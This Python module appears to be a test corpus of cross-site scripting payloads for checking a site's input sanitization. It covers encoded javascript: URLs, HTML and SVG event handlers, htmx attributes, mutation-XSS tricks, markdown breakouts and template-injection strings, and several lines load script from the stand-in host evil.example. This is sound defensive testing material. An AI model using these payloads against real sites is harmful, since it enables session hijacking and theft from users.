"""A corpus of hostile text for every field people type into.

Each vector is (category, text). Payloads that would run say ``alert(1)`` (or ``xss``), and
any request they would make goes to ``evil.example`` or a path holding ``xss``, so a test can
look for those markers in the page, the network log and the dialogs.
"""

# Schemes a link or an image must never keep, written the ways browsers still read them.
HOSTILE_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&#58;alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
    "jav&#x09;ascript:alert(1)",
    "java&#x0A;script:alert(1)",
    "&#x20;javascript:alert(1)",
    "javascript://%0aalert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,%3Cscript%3Ealert(1)%3C/script%3E",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "vbscript:msgbox(1)",
    "VbScRiPt:msgbox(1)",
]

_LINK_FORMS = [
    ("inline link", "[click me]({url})"),
    ("inline image", "![picture]({url})"),
    ("reference link", "[click me][ref]\n\n[ref]: {url}"),
    ("reference image", "![picture][ref]\n\n[ref]: {url}"),
    ("autolink", "<{url}>"),
    ("link with title", '[click me]({url} "a title")'),
]

RAW_HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/xss.js></script>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<img """><script>alert(1)</script>">',
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover me</div>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<link rel=stylesheet href=//evil.example/xss.css>",
    "<style>@import '//evil.example/xss.css';</style>",
    '<a href="#" style="background:url(//evil.example/xss.png)">styled</a>',
    "<marquee onstart=alert(1)>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<a href="javascript:alert(1)">plain link</a>',
    '<a href="  javascript:alert(1)">spaced link</a>',
    '<img src="//evil.example/xss.png">',
]

HTMX = [
    '<div hx-get="/xss-hx" hx-trigger="load">htmx get</div>',
    '<div data-hx-get="/xss-hx" data-hx-trigger="load">data htmx get</div>',
    '<button hx-post="/accounts/logout/?xss" hx-trigger="load">sign out</button>',
    '<div hx-on:click="alert(1)">hx-on click</div>',
    '<div hx-on="click: alert(1)">hx-on old form</div>',
    '<div hx-on::load="alert(1)">hx-on load</div>',
    '<div data-hx-on:click="alert(1)">data hx-on</div>',
    '<div hx-vals=\'js:{a: alert(1)}\' hx-post="/xss-hx" hx-trigger="load">vals</div>',
    '<div hx-swap-oob="true" id="main">taken over xss</div>',
    '<div hx-headers=\'{"X-Xss": "1"}\' hx-get="/xss-hx" hx-trigger="load">headers</div>',
    '<a hx-get="javascript:alert(1)" hx-trigger="load">hx javascript</a>',
    '<form hx-post="/xss-hx" hx-trigger="load"><input name="a"></form>',
    '<img src=x hx-get="/xss-hx" hx-trigger="load">',
]

SVG_AND_MATHML = [
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">svg link</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math href="javascript:alert(1)">math link</math>',
    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">m</maction></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]

MUTATION = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mi><table><mi><style></style><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    '<a title="a&#x22; onmouseover=alert(1) x=&#x22;">quoted</a>',
    '<img alt="<x" title="/><img src=x onerror=alert(1)>">',
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
]

CODE = [
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```html\n<img src=x onerror=alert(1)>\n```",
    '```python" onmouseover="alert(1)\nprint(1)\n```',
    '```js"><img src=x onerror=alert(1)>\nlet a = 1\n```',
    "~~~<script>alert(1)</script>\nx\n~~~",
    "`<img src=x onerror=alert(1)>`",
    "```python\n'''</code><script>alert(1)</script>'''\n```",
    "    <script>alert(1)</script>",
    "``<svg onload=alert(1)>``",
]

MENTIONS = [
    "@alice<img src=x onerror=alert(1)>",
    "@<script>alert(1)</script>",
    '@alice"onmouseover="alert(1)',
    "[@alice](javascript:alert(1))",
    "@javascript:alert(1)",
    "**@alice** <svg onload=alert(1)>",
    '![pic](https://example.com/a.png "x> @alice <img src=x onerror=alert(1)>")',
    "![x> @alice <img src=x onerror=alert(1)>](https://example.com/a.png)",
    '[@alice](https://example.com "@alice <svg onload=alert(1)>")',
]

TEMPLATE_INJECTION = [
    "{{ 7|add:7 }} xss-template",
    "{% csrf_token %} xss-template",
    "{% load static %}{% static 'x' %} xss-template",
    "{{ request.user.password }} xss-template",
    "${7*7} #{7*7} xss-template",
    "{{constructor.constructor('alert(1)')()}}",
]

MARKDOWN_TRICKS = [
    '[click](http://example.com "title onmouseover=alert(1)")',
    "[a](<javascript:alert(1)>)",
    "[a](javascript:alert&#40;1&#41;)",
    "[a](https://example.com)<script>alert(1)</script>",
    "![a](https://evil.example/xss.png)",
    "- [x] <img src=x onerror=alert(1)>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "> <iframe src=javascript:alert(1)>",
    "# <svg onload=alert(1)>",
    "www.example.com/<script>alert(1)</script>",
]


def _linked() -> list[tuple[str, str]]:
    return [
        (f"{form}: {url.split(':')[0][:12]}", template.format(url=url))
        for url in HOSTILE_URLS
        for form, template in _LINK_FORMS
    ]


VECTORS: list[tuple[str, str]] = [
    *_linked(),
    *(("raw html", v) for v in RAW_HTML),
    *(("htmx", v) for v in HTMX),
    *(("svg/mathml", v) for v in SVG_AND_MATHML),
    *(("mutation", v) for v in MUTATION),
    *(("code", v) for v in CODE),
    *(("mention", v) for v in MENTIONS),
    *(("template", v) for v in TEMPLATE_INJECTION),
    *(("markdown", v) for v in MARKDOWN_TRICKS),
]

TEXTS = [text for _, text in VECTORS]
